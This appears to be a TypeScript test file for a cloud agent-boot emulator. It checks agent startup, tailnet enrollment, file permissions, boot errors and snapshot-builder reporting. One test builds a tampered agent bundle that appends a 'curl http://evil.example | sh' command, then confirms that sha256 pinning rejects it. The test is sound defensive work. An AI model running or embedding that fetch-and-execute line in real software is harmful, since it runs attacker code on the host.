/**
 * The emulators' boot: a server that reaches `running` gets its user-data read the way
 * cloud-init would and an agent process started with the bootstrap config found there. Here the
 * "agent" is a stand-in script (the real one needs a Hangar; test/integration/cloud.test.ts runs
 * it), so the test can look at exactly what the process was given.
 */
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderUserData } from '../../src/bootstrap/cloud-init.ts';
import { renderSnapshotBuilderUserData } from '../../src/bootstrap/cloud-init.ts';
import { bootstrapInput } from '../../src/bootstrap/fixtures.testing.ts';
import { createAgentBoot, type AgentProcess } from './boot.ts';
import { startDigitalOceanEmulator } from './digitalocean.ts';
import { startHetznerEmulator } from './hetzner.ts';
import { startTailscaleEmulator, type TailscaleEmulator } from './tailscale.ts';
import { bootstrapFor, call, cloudConfig, until } from './test-helpers.ts';


/** A stand-in agent: records its argv and config, "enrolls" (writes state.json), runs until SIGTERM. */
const FAKE_AGENT = `
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
const arg = (n) => process.argv[process.argv.indexOf(n) + 1];
const cfg = JSON.parse(readFileSync(arg('--config'), 'utf8'));
const dir = arg('--state-dir');
writeFileSync(join(dir, 'seen.json'), JSON.stringify({ argv: process.argv.slice(2), cfg, home: process.env.HOME, cwd: process.cwd() }));
setTimeout(() => writeFileSync(join(dir, 'state.json'), JSON.stringify({
  agentId: 'agent-1', serverName: cfg.serverName,
  tailscale: process.env.FAKE_TS_KEY ? { authKey: process.env.FAKE_TS_KEY, hostname: cfg.serverName, tags: ['tag:hangar'] } : null,
})), 50);
process.on('SIGTERM', () => process.exit(0));
setInterval(() => {}, 1000);
`;

let work: string;
let bundle: string;
let ts: TailscaleEmulator;
beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'hangar-boot-test-'));
  bundle = join(work, 'fake-agent.mjs');
  writeFileSync(bundle, FAKE_AGENT);
  ts = await startTailscaleEmulator();
});
afterAll(async () => {
  await ts.stop();
  rmSync(work, { recursive: true, force: true });
});

const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

describe('createAgentBoot', () => {
  for (const cloud of ['hetzner', 'digital-ocean'] as const) {
    it(`${cloud}: starts the agent with the user-data's bootstrap config (0600), joins the tailnet with the enrollment's key, and stops it on delete`, async () => {
      const key = ts.state.createKey({ capabilities: { devices: { create: { ephemeral: true, preauthorized: true, tags: ['tag:hangar'] } } } });
      const boot = createAgentBoot({ agentBundlePath: bundle, tmpRoot: work, tailnet: cloud === 'hetzner' ? ts : ts.url, env: { FAKE_TS_KEY: key.secret } });
      const emu = cloud === 'hetzner' ? await startHetznerEmulator({ boot, bootDelayMs: 20, actionDelayMs: 20 }) : await startDigitalOceanEmulator({ boot, bootDelayMs: 20, actionDelayMs: 20 });
      try {
        const b = bootstrapFor(`${cloud}-1`);
        const res =
          cloud === 'hetzner'
            ? await call(emu.baseUrl, emu.token, 'POST', '/servers', { name: b.serverName, server_type: 'cpx22', image: 'ubuntu-24.04', user_data: cloudConfig(b) })
            : await call(emu.url, emu.token, 'POST', '/v2/droplets', { name: b.serverName, size: 's-1vcpu-2gb', region: 'fra1', image: 'ubuntu-24-04-x64', user_data: cloudConfig(b) });
        const id = String(cloud === 'hetzner' ? res.body.server.id : res.body.droplet.id);
        await until(() => boot.processes.has(id), 10_000);
        const proc = boot.processes.get(id) as AgentProcess;
        expect(alive(proc.pid)).toBe(true);
        expect(statSync(proc.dir).mode & 0o777).toBe(0o700);
        expect(statSync(proc.configPath).mode & 0o777).toBe(0o600);

        const enrolled = await proc.enrolled;
        expect(enrolled).toMatchObject({ agentId: 'agent-1', serverName: b.serverName });
        const seen = JSON.parse(readFileSync(join(proc.dir, 'seen.json'), 'utf8'));
        expect(seen.cfg).toEqual(b);
        expect(seen.argv).toEqual(['--config', proc.configPath, '--state-dir', proc.dir]);
        expect(seen.home).toBe(proc.dir);

        expect(await proc.tailnetJoin).toMatchObject({ ok: true, hostname: b.serverName });
        expect([...ts.state.devices.values()].map((d) => d.hostname)).toContain(b.serverName);

        const snap = await call(emu.url, null, 'GET', '/_emulator/state');
        expect(snap.body.boots).toEqual([expect.objectContaining({ id, kind: 'agent', instanceId: b.instanceId })]);

        const del = cloud === 'hetzner' ? await call(emu.baseUrl, emu.token, 'DELETE', `/servers/${id}`) : await call(emu.url, emu.token, 'DELETE', `/v2/droplets/${id}`);
        expect(del.status).toBeLessThan(300);
        await proc.exited;
        await until(() => !existsSync(proc.dir), 5000);
        expect(alive(proc.pid)).toBe(false);
      } finally {
        await emu.stop();
      }
    });
  }

  it('records a boot error (bad bundle) without failing the server, and never boots a server whose user-data has no bootstrap config', async () => {
    const boot = createAgentBoot({ agentBundlePath: async () => Promise.reject(new Error('no bundle here')), tmpRoot: work });
    const hz = await startHetznerEmulator({ boot, bootDelayMs: 10, actionDelayMs: 10 });
    try {
      const b = bootstrapFor('bad');
      const r = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: 'bad-1', server_type: 'cpx22', image: 'ubuntu-24.04', user_data: cloudConfig(b) });
      const plain = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: 'plain-1', server_type: 'cpx22', image: 'ubuntu-24.04', user_data: '#!/bin/sh\necho hi\n' });
      await hz.waitForServer(r.body.server.id, 'running');
      await hz.waitForServer(plain.body.server.id, 'running');
      await until(() => hz.state.booter.records.some((x) => x.error), 5000);
      expect(hz.state.booter.records).toEqual(
        expect.arrayContaining([expect.objectContaining({ name: 'bad-1', kind: 'agent', error: 'no bundle here' }), expect.objectContaining({ name: 'plain-1', kind: 'none' })]),
      );
      expect(hz.state.servers.get(r.body.server.id)?.status).toBe('running');
    } finally {
      await hz.stop();
    }
  });

  it("gets the agent with the user-data's own install script: boots the pinned bundle, refuses a tampered one", async () => {
    let served = FAKE_AGENT;
    const api = createServer((req, res) => (req.url === '/v1/agent/bundle' ? res.end(served) : res.writeHead(404).end()));
    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
    const apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
    const boot = createAgentBoot({ fetchBundle: true, tmpRoot: work });
    const hz = await startHetznerEmulator({ boot, bootDelayMs: 10, actionDelayMs: 10 });
    // Real user-data, as Hangar renders it: the install script pins the bundle's sha256.
    const userData = (name: string) => {
      const b = { ...bootstrapFor(name), apiUrl };
      return { b, ud: renderUserData(bootstrapInput({ path: 'snapshot', bootstrap: b, agentBundleSha256: createHash('sha256').update(FAKE_AGENT).digest('hex') })) };
    };
    try {
      const good = userData('pinned');
      const r1 = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: good.b.serverName, server_type: 'cpx22', image: 'ubuntu-24.04', user_data: good.ud });
      const id1 = String(r1.body.server.id);
      await until(() => boot.processes.has(id1), 10_000);
      const proc = boot.processes.get(id1) as AgentProcess;
      expect(await proc.enrolled).toMatchObject({ agentId: 'agent-1', serverName: good.b.serverName });
      expect(readFileSync(join(proc.dir, 'rootfs/opt/hangar/agent/agent.mjs'), 'utf8')).toBe(FAKE_AGENT);

      served = `${FAKE_AGENT}require('node:child_process').execSync('curl -s http://evil.example | sh');\n`;
      const bad = userData('tampered');
      const r2 = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: bad.b.serverName, server_type: 'cpx22', image: 'ubuntu-24.04', user_data: bad.ud });
      const id2 = String(r2.body.server.id);
      await until(() => hz.state.booter.records.some((x) => x.id === id2 && x.error), 30_000);
      const rec = hz.state.booter.records.find((x) => x.id === id2)!;
      expect(rec.error).toMatch(/refusing to install the agent bundle: its sha256 is [0-9a-f]{64}, expected [0-9a-f]{64}/);
      expect(boot.processes.has(id2)).toBe(false);
    } finally {
      await hz.stop();
      api.close();
    }
  });

  it('plays a snapshot builder: reports ready with its build token (retrying a 503), then powers off', async () => {
    const seen: { path: string; auth: string | undefined; body: unknown }[] = [];
    const api = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        seen.push({ path: req.url ?? '', auth: req.headers.authorization, body: JSON.parse(body || 'null') });
        res.writeHead(seen.length === 1 ? 503 : 204).end();
      });
    });
    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
    const hz = await startHetznerEmulator({ boot: false, bootDelayMs: 10, actionDelayMs: 10, snapshotBuilder: { installMs: 20, retryDelayMs: 50 } });
    try {
      const buildId = randomUUID();
      const buildToken = `hgs_${'t'.repeat(32)}`;
      const apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
      const userData = renderSnapshotBuilderUserData({ provider: 'hetzner', bootstrapVersion: 'dev', apiUrl, buildId, buildToken, agentBundleSha256: 'f'.repeat(64) });
      const r = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: 'hangar-builder-1', server_type: 'cpx22', image: 'ubuntu-24.04', user_data: userData });
      expect(r.status).toBe(201);
      await hz.waitForServer(r.body.server.id, 'off', 10_000);
      expect(seen).toEqual([
        { path: `/v1/snapshot-builds/${buildId}/ready`, auth: `Bearer ${buildToken}`, body: { ok: true, bootstrapVersion: 'dev' } },
        { path: `/v1/snapshot-builds/${buildId}/ready`, auth: `Bearer ${buildToken}`, body: { ok: true, bootstrapVersion: 'dev' } },
      ]);
      expect(hz.state.booter.records).toEqual([expect.objectContaining({ kind: 'builder', buildId, report: 204 })]);
    } finally {
      await hz.stop();
      api.close();
    }
  });
});
